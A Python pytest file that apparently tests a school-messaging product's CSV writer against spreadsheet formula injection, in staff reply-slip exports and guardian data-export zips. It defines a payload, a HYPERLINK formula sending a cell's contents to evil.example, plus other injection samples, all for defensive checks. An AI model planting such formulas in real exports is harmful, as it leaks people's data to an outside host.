"""Every CSV the product writes goes through :mod:`hub.csvfile`: a cell that a spreadsheet would run as a formula
(OWASP "CSV injection") is written as text, with a leading apostrophe; numbers stay numbers; ``;``, CRLF and
UTF-8 with a byte order mark, as Belgian Excel opens them.

The two CSVs of the product, end to end over the real app: the staff's ``responses.csv`` of a reply slip, and the
tables of a guardian's data export (``guardian.csv``, ``answers.csv``, ``thread_posts.csv`` in the zip), with
formulas in a guardian's name, a slip answer and a thread post.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest

from hub import clock, csvfile
from hub.config import ROOT, Settings
from hub.enums import ActorKind, Channel
from hub.messaging.models import Notice, ThreadPost
from hub.people.models import Guardian
from tests.web.conftest import Site, _serve
from tests.web.test_compose import (
    TEACHER,
    _answer,
    _compose,
    _draft_id,
    _message_form,
    _send,
    _slip_fields,
    _taught_class,
    _two_parent_pupil,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'
FORMULAS = [HYPERLINK, "@SUM(1+1)", "+1", "-1+1", "=1+1", "\t=cmd", "\r=cmd"]


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), "UTF-8 with a byte order mark"
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


# ------------------------------------------------------------------------------------------------ the writer


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text(formula: str) -> None:
    assert csvfile.cell(formula) == "'" + formula
    assert _rows(csvfile.encode([["name"], [formula]]))[1] == ["'" + formula]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-1, "-1"),
        (-2.5, "-2.5"),
        (Decimal("-12.50"), "-12.50"),
        (0, "0"),
        (None, ""),
        (True, "True"),
        ("Élodie Dupont", "Élodie Dupont"),
        ("a;b", "a;b"),
        ("-2", "'-2"),  # typed by someone: text
        ("+32 470 12 34 56", "'+32 470 12 34 56"),  # a phone number stays as typed, not a number
    ],
)
def test_numbers_stay_numbers_and_text_stays_text(value: object, written: str) -> None:
    assert csvfile.cell(value) == written
    assert _rows(csvfile.encode([["v"], [value]]))[1] == [written]


def test_a_table_has_a_header_of_every_key_and_empty_cells_for_missing_ones() -> None:
    data = csvfile.table([{"a": 1, "b": "=x"}, {"c": -3}])
    assert _rows(data) == [["a", "b", "c"], ["1", "'=x", ""], ["", "", "-3"]]
    assert data.decode("utf-8-sig").count("\r\n") == 3


def test_the_writer_is_a_leaf() -> None:
    tree = ast.parse((ROOT / "hub" / "csvfile.py").read_text(encoding="utf-8"))
    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
    assert not {m for m in imported if m.split(".")[0] in {"hub", "channels", "charter"}}


def test_no_other_module_of_the_product_writes_csv() -> None:
    writers = []
    for package in ("hub", "channels", "charter"):
        for path in sorted((ROOT / package).rglob("*.py")):
            source = path.read_text(encoding="utf-8")
            if "csv.writer(" in source or "csv.DictWriter(" in source:
                writers.append(path.relative_to(ROOT).as_posix())
    assert writers == ["hub/csvfile.py"]


# ------------------------------------------------------------------------------------------ the product's CSVs


@pytest.fixture
def site(demo_db_url: str, tmp_path: Path) -> Iterator[Site]:
    yield from _serve(Settings(data_dir=tmp_path, database_url=demo_db_url, base_url="http://testserver"))


async def _rename(guardian_id: int, first: str, last: str) -> None:
    await Guardian.filter(id=guardian_id).update(first_name=first, last_name=last)


async def _post(message_id: int, guardian_id: int, body: str) -> None:
    notice = await Notice.get(message_id=message_id, guardian_id=guardian_id)
    await ThreadPost.create(
        notice_id=notice.id,
        author_kind=ActorKind.GUARDIAN,
        guardian_id=guardian_id,
        body=body,
        channel=Channel.PORTAL,
        at=clock.now(),
    )


def test_formulas_are_neutralised_in_every_csv_the_product_writes(site: Site) -> None:
    site.login_staff(TEACHER)
    pupil, (guardian, _other) = site.run(_two_parent_pupil, site.run(_taught_class))
    fields = _slip_fields(q3_kind="free_text", q3_text="=Remarque", q4_kind="free_text", q4_text="Autre")
    message_id = _draft_id(_compose(site, _message_form(pupil=str(pupil), **fields)))
    assert _send(site, message_id).status_code == 303
    site.run(_rename, guardian, "+1", HYPERLINK)
    site.run(_answer, message_id, guardian, pupil, {"1": "yes", "2": "Froid", "3": "@SUM(1+1)", "4": "-1+1"})
    site.run(_post, message_id, guardian, "-1+1 et =HYPERLINK")

    # The staff's responses.csv: the guardian's name, the answers and a question's text.
    response = site.client.get(f"/staff/messages/{message_id}/responses.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    _header, *rows = _rows(response.content)
    assert [r[6] for r in rows][-2:] == ["3. =Remarque", "4. Autre"]  # "3. " first: not a formula
    assert rows[0][2] == f"'{HYPERLINK} +1"
    assert [r[7] for r in rows][-2:] == ["'@SUM(1+1)", "'-1+1"]

    # The guardian's own export.
    site.login_guardian(guardian)
    archive = site.post("/portal/data/export", {"format": "zip"}, form_page="/portal/data")
    assert archive.status_code == 200, archive.text
    with zipfile.ZipFile(io.BytesIO(archive.content)) as zipped:
        tables = {name: _rows(zipped.read(name)) for name in zipped.namelist() if name.endswith(".csv")}
    me = dict(zip(*tables["guardian.csv"], strict=True))
    assert me["first_name"] == "'+1" and me["last_name"] == "'" + HYPERLINK
    assert me["id"] == str(guardian)  # a number stays a number
    posts = [dict(zip(tables["thread_posts.csv"][0], r, strict=True)) for r in tables["thread_posts.csv"][1:]]
    assert [p["body"] for p in posts] == ["'-1+1 et =HYPERLINK"]
    answers = [dict(zip(tables["answers.csv"][0], r, strict=True)) for r in tables["answers.csv"][1:]]
    assert len(answers) == 1 and "@SUM(1+1)" in answers[0]["answers"]  # as JSON: starts with "{"
    assert not answers[0]["answers"].startswith(tuple(csvfile.FORMULA_START))
    for name, rows in tables.items():
        for cells in rows:
            for value in cells:
                assert not value.startswith(tuple(csvfile.FORMULA_START)), (name, value)
